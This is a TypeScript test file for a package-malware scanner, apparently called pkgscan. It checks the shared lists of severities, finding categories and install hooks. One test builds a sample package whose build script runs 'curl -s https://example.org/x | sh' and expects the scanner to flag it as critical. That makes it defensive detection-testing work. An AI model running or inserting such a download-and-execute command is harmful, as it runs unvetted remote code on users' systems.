// The shared pkgscan vocabulary: complete, ordered, and the only copy (no folder keeps its own rank table, category list or hook list).
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { FindingCategory } from '../core/contracts/pkgscan.js';
import { REPO_ROOT } from '../../test/corpora.js';
import { analyzeSource } from './analyzers/source/index.js';
import { releaseOf } from './analyzers/release.fixture.js';
import { atLeast, BEHAVIOUR_CATEGORIES, CONTEXT_CATEGORIES, FINDING_CATEGORIES, INSTALL_HOOKS, SEVERITIES, severitySchema, SEVERITY_RANK, SOURCE_INSTALL_HOOKS } from './vocabulary.js';

function sources(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) return e.name === 'testdata' ? [] : sources(p);
    return e.name.endsWith('.ts') && !e.name.endsWith('.test.ts') ? [p] : [];
  });
}

describe('pkgscan vocabulary', () => {
  it('severities are ordered by their rank, and atLeast follows it', () => {
    expect(SEVERITIES.map((s) => SEVERITY_RANK[s])).toEqual([0, 1, 2, 3, 4]);
    expect(atLeast('high', 'medium')).toBe(true);
    expect(atLeast('low', 'medium')).toBe(false);
  });

  it('the category lists hold every finding category once', () => {
    const every: Record<FindingCategory, true> = { install_time: true, code_execution: true, obfuscation: true, exfiltration: true, download_execute: true, reverse_shell: true, cryptominer: true, process_spawn: true, persistence: true, propagation: true, steganography: true, destruction: true, capability: true, metadata: true, archive: true, provenance: true, vulnerability: true, tool: true };
    expect([...FINDING_CATEGORIES].sort()).toEqual(Object.keys(every).sort());
    expect(new Set(FINDING_CATEGORIES).size).toBe(BEHAVIOUR_CATEGORIES.length + CONTEXT_CATEGORIES.length);
  });

  it('prepare is not a registry install hook: a release whose only script is prepare has no install-time code', () => {
    expect(INSTALL_HOOKS).not.toContain('prepare');
    expect(SOURCE_INSTALL_HOOKS).toContain('prepare');
    const scripts = { prepare: 'node build.js' };
    const release = releaseOf('npm', { 'package.json': JSON.stringify({ name: 'sample', scripts }), 'build.js': "require('child_process').execSync('curl -s https://example.org/x | sh')" }, { scripts });
    const out = analyzeSource(release, { resourcesDir: path.join(REPO_ROOT, 'resources'), internalNamespaces: [] });
    expect(out.findings.filter((f) => f.file === 'package.json')).toEqual([]);
    expect(out.findings.find((f) => f.code === 'shell_download_pipe')?.severity).toBe('critical');
  });

  it('no pkgscan file keeps its own severity rank table, severity list, category list or install-hook list', () => {
    const root = path.join(REPO_ROOT, 'engines', 'pkgscan');
    const copies = sources(root)
      .filter((f) => path.basename(f) !== 'vocabulary.ts')
      .filter((f) => {
        const t = readFileSync(f, 'utf8');
        return /info:\s*0,\s*low:\s*1,\s*medium:\s*2/.test(t) || /z\.enum\(\s*\[\s*'info'/.test(t) || /\bconst\s+\w+(\s*:[^=]+)?=\s*\[\s*'info',\s*'low',\s*'medium',\s*'high',\s*'critical'\s*\]/.test(t) || /'preinstall',\s*'install',\s*'postinstall'/.test(t) || /'install_time',\s*'code_execution',\s*'obfuscation'/.test(t.replace(/\s+/g, ' '));
      })
      .map((f) => path.relative(root, f));
    expect(copies).toEqual([]);
  });

  // Three tables hold a severity (events, scan verdicts, container-image scans); each statement is written once and
  // run by both backends' migrations.
  it('every SQL CHECK on a severity column, in either backend\'s migrations, allows exactly the shared severities', () => {
    const root = path.join(REPO_ROOT, 'engines', 'pkgscan');
    const checks = sources(root).flatMap((f) => [...readFileSync(f, 'utf8').matchAll(/CHECK\s*\(\s*severity\s+IN\s*\(('[^)]*)\)/gi)].map((m) => ({ file: path.relative(root, f), list: (m[1] ?? '').split(',').map((s) => s.trim().replace(/^'|'$/g, '')) })));
    expect(checks.length).toBeGreaterThanOrEqual(3);
    for (const c of checks) expect(c, c.file).toEqual({ file: c.file, list: [...SEVERITIES] });
  });

  it('severitySchema accepts exactly the shared severities', () => {
    for (const s of SEVERITIES) expect(severitySchema.safeParse(s).success).toBe(true);
    expect(severitySchema.safeParse('severe').success).toBe(false);
    expect(severitySchema.options).toEqual([...SEVERITIES]);
  });
});
